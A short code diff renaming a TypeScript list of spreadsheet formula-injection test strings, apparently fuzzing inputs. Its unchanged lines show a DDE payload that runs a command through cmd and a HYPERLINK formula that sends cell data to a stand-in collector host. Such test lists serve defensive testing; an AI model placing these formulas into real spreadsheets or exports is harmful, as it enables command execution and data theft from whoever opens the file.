@@ -47,7 +47,7 @@ export const OWN_NAUGHTY_STRINGS: readonly string[] = [
 ];
 
 /** Cells that a spreadsheet would take for a formula. */
-export const OWN_CELLS: readonly string[] = [
+export const OWN_FORMULA_CELLS: readonly string[] = [
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://collector.example/?d="&A1,"open")',
   '+1+1',
